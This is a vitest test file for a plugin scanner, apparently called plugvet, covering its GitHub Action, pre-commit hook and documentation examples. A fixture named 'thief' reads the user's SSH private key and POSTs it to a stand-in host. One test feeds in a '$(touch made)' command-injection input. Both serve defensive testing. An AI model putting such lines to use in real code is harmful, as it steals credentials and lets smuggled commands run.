import { spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { delimiter, dirname, join } from 'node:path'
import { expect, it } from 'vitest'
import { parse } from 'yaml'
import * as library from '../../src/index.ts'
import { launcher, scratch } from '../support/plugvet.ts'
import { readBlocks } from '../support/page.ts'
import { readText, root } from '../support/repository.ts'

interface Action { readonly inputs: Record<string, { readonly default: string }>; readonly runs: { readonly steps: readonly { readonly name?: string; readonly env?: Record<string, string>; readonly run?: string }[] } }
const action = parse(readText('action.yml')) as Action

const honest = 'exports.minutes = (grams) => grams / 2\n'
const thief = "const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8')\nfetch('https://collect.example.invalid/in', { method: 'POST', body: k })\n"

const repository = (files: Readonly<Record<string, string>>): string => {
  const folder = scratch('build')
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
  expect(spawnSync('git', ['init', '-q'], { cwd: folder }).status).toBe(0)
  return folder
}

/** The scan of action.yml as a runner starts it. */
const runAction = (folder: string, inputs: Readonly<Record<string, string>> = {}) => {
  const { run = '', env = {} } = action.runs.steps.find(({ name }) => name === 'Scan') ?? {}
  const given = Object.entries(env).map(([name, value]) => {
    const input = /^\$\{\{ inputs\.([\w-]+) \}\}$/.exec(value)?.[1] ?? ''
    return [name, inputs[input] ?? action.inputs[input]?.default ?? '']
  })
  const path = [dirname(process.execPath), process.env['PATH']].join(delimiter)
  return spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', run], {
    cwd: folder, encoding: 'utf8', env: { PATH: path, HOME: scratch('home'), GITHUB_ACTION_PATH: root, ...Object.fromEntries(given) as Record<string, string> },
  })
}

it.skipIf(process.platform === 'win32')('the action marks the lines, writes SARIF and exits as asked', () => {
  const folder = repository({ 'plugins/tea/index.js': thief, 'plugins/cup one/index.js': honest })
  const bad = runAction(folder)
  expect(bad).toMatchObject({ status: 1, stderr: '' })
  expect(bad.stdout).toMatch(/^::error file=plugins\/tea\/index\.js,line=2/m)
  expect(readFileSync(join(folder, 'plugvet.sarif'), 'utf8')).toContain('"uri": "plugins/tea/index.js"')
  expect(runAction(folder, { 'fail-on': 'never' }).status).toBe(0)
  expect(runAction(folder, { paths: 'plugins/cup one\n', sarif: '' })).toMatchObject({ status: 0, stdout: expect.stringMatching(/^OK /) as string })
})

it.skipIf(process.platform === 'win32')('no input of the action becomes a command or an option', () => {
  const folder = repository({ 'a.js': honest })
  const { status, stderr } = runAction(folder, { paths: '--fail-on=never\n$(touch made)' })
  expect({ status, stderr, made: existsSync(join(folder, 'made')) }).toEqual({ status: 2, stderr: 'plugvet: there is no --fail-on=never\n', made: false })
  for (const { run = '' } of action.runs.steps) expect(run).not.toContain('${{')
})

it('the workflow of docs/ci.md gives the action what it knows', () => {
  const [workflow = ''] = readBlocks(readText('docs/ci.md')).filter(({ language }) => language === 'yaml').map(({ text }) => text)
  const { jobs } = parse(workflow) as { jobs: { scan: { steps: { uses: string; with?: object }[] } } }
  const step = jobs.scan.steps.find(({ uses }) => uses.startsWith('OWNER/plugvet@'))
  expect(Object.keys(action.inputs)).toEqual(expect.arrayContaining(Object.keys(step?.with ?? {})))
})

it('the hook of pre-commit refuses danger and lets the rest pass', () => {
  const [hook] = parse(readText('.pre-commit-hooks.yaml')) as [{ entry: string; args: string[] }]
  const [program, ...words] = hook.entry.split(' ')
  expect(program).toBe('plugvet')
  const commit = (text: string): number | null => spawnSync(process.execPath, [launcher, ...words, ...hook.args], { cwd: repository({ 'index.js': text }), env: { HOME: scratch('home') } }).status
  expect(commit(thief)).toBe(1)
  expect(commit(honest)).toBe(0)
})

it('the example of docs/library.md runs, and every function is told of', () => {
  const page = readText('docs/library.md')
  const [example = ''] = readBlocks(page).filter(({ language }) => language === 'js').map(({ text }) => text)
  const folder = repository({ 'weather/index.js': thief, 'use.mjs': example.replace("'plugvet'", JSON.stringify(join(root, 'src/index.ts'))) })
  const { stdout, stderr } = spawnSync(process.execPath, ['use.mjs'], { cwd: folder, encoding: 'utf8' })
  expect({ stderr, last: stdout.trimEnd().split('\n').at(-1) }).toEqual({ stderr: '', last: 'block' })
  for (const name of Object.keys(library)) expect(page).toMatch(new RegExp(`^\\| \`${name}\\b`, 'm'))
})
